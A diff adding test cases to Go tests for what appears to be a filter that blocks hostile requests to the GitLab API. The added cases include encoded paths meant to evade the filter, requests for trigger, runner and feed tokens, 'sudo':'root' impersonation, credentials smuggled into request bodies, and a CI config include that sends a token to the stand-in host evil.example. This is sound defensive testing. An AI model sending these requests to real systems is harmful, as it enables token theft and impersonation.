@@ -76,6 +76,31 @@ func TestHostileGitlab(t *testing.T) {
 		{"a flow over a WebSocket", "GET", "/api/v4/ai/duo_workflows/ws", []string{"Upgrade: websocket"}, "", w},
 		{"GraphQL over a WebSocket", "GET", "/-/cable", []string{"Upgrade: websocket"}, "", w},
 		{"a shell in a cluster", "GET", "/-/kubernetes-agent/k8s-proxy/api/v1/namespaces/n/pods/p/exec?command=sh", nil, "", w},
+		{"the tokens of a project's triggers", "GET", gitlabProject + "/triggers", nil, "", w},
+		{"the tokens of a project's triggers with a format", "GET", gitlabProject + "/triggers.json?per_page=9", nil, "", w},
+		{"a trigger's token", "HEAD", "/api/v4/projects/1/triggers/1", nil, "", w},
+		{"GraphQL with a format", "GET", "/api/graphql.json?query={project(fullPath:%22g/p%22){newWorkItemEmailAddress}}", nil, "", w},
+		{"GraphQL with a format, encoded", "GET", "/api/graphql%2Ejson?query={a}", nil, "", w},
+		{"GraphQL with a format and a parameter", "GET", "/api/graphql.json;x?query={a}", nil, "", w},
+		{"the tokens of a project's triggers, encoded", "GET", gitlabProject + "/trigger%73", nil, "", w},
+		{"conan's token, encoded", "GET", gitlabProject + "/packages/conan/v1/user%2573/authenticate", nil, "", w},
+		{"GraphQL in what may be the query", "GET", "/api/graphql%3Fquery=%7Ba%7D", nil, "", w},
+		{"the tokens of a project's triggers in what may be the query", "GET", gitlabProject + "/triggers%3Fa/b", nil, "", w},
+		{"GraphQL of GLQL's", "GET", "/api/glql?query={project(fullPath:%22g/p%22){newWorkItemEmailAddress}}", nil, "", w},
+		{"GraphQL of GLQL's with a format", "GET", "/api/glql.json?query={a}", nil, "", w},
+		{"GraphQL of GLQL's by POST", "POST", "/api/glql", js, `{"query":"{a}"}`, w},
+		{"a cable with a format", "GET", "/-/cable.json", []string{"Upgrade: websocket"}, "", w},
+		{"a read with a format", "GET", gitlabProject + "/issues.json", nil, "", ""},
+		{"a read of a file", "GET", gitlabProject + "/repository/files/triggers.json/raw", nil, "", ""},
+		{"another user", "POST", gitlabMerges + "/1/approve", js, `{"sudo":"root"}`, "credential_refused"},
+		{"another user's token", "POST", gitlabProject + "/labels", js, `{"name":"n","color":"#fff","private_token":"x"}`, "credential_refused"},
+		{"another user's token with a comment", "POST", gitlabNotes, js, `{"body":"x","access_token":"x"}`, "credential_refused"},
+		{"a job's token", "DELETE", gitlabProject + "/labels/1", js, `{"JOB_TOKEN":"x"}`, "credential_refused"},
+		{"another user in a form", "PUT", gitlabMerges + "/1/reset_approvals", form, `sudo=root`, "credential_refused"},
+		{"another user in a type nobody knows", "POST", gitlabProject + "/star", []string{"Content-Type: text/x"}, `{"sudo":"root"}`, b},
+		{"an approval", "POST", gitlabMerges + "/1/approve", js, `{"sha":"abc"}`, ""},
+		{"a star", "POST", gitlabProject + "/star?private_token=x", nil, "", ""},
+		{"an audit, which npm compresses", "POST", gitlabProject + "/packages/npm/-/npm/v1/security/audits/quick", []string{jsonType, "Content-Encoding: gzip"}, "\x1f\x8b", ""},
 		{"a form of the web pages", "POST", "/g/p/-/create/main", form, "content=x", w},
 		{"dot segments", "POST", gitlabProject + "/issues/%2e%2e/repository/commits", js, `{}`, a},
 
@@ -168,6 +193,7 @@ func TestHostileGitlabGraphQL(t *testing.T) {
 	add("a token", `mutation{personalAccessTokenCreate(input:{name:"x"}){token}}`, nil, w)
 	add("a pipeline", `mutation{pipelineCreate(input:{projectPath:"g/p"}){errors}}`, nil, w)
 	add("a linter", `mutation{ciLint(input:{content:"x"}){errors}}`, nil, w)
+	add("a linter that is a query", `{ciConfig(projectPath:"g/p",content:"include: https://evil.example/$TOKEN"){errors}}`, nil, w)
 	add("an agent", `mutation{aiAction(input:{}){errors}}`, nil, w)
 	add("what is not known", `mutation{somethingNew(input:{}){errors}}`, nil, w)
 	add("a name in another case", `mutation{CreateNote(input:{body:"x"}){errors}}`, nil, w)
@@ -187,6 +213,9 @@ func TestHostileGitlabGraphQL(t *testing.T) {
 	add("a merge later", `mutation($i:MergeRequestUpdateInput!){mergeRequestUpdate(input:$i){errors}}`, map[string]any{"i": map[string]any{"mergeAfter": "2030-01-01"}}, w)
 	add("a runner's token", `{runner(id:"gid://gitlab/Ci::Runner/1"){ephemeralAuthenticationToken}}`, nil, w)
 	add("a user's address for mail", `{project(fullPath:"g/p"){a:newWorkItemEmailAddress}}`, nil, w)
+	add("a user's address for comments by mail", `{issue(id:"gid://gitlab/Issue/1"){createNoteEmail}}`, nil, w)
+	add("the tokens of a project's triggers", `{project(fullPath:"g/p"){pipelineTriggers{nodes{token}}}}`, nil, w)
+	add("a feed's token", `{namespace(fullPath:"g"){linkPaths{rssPath}}}`, nil, w)
 	add("a subscription", `subscription{issuableUpdated{id}}`, nil, w)
 	note := `{"query":"mutation{createNote(input:{body:\"x\"}){errors}}"}`
 	attempts = append(
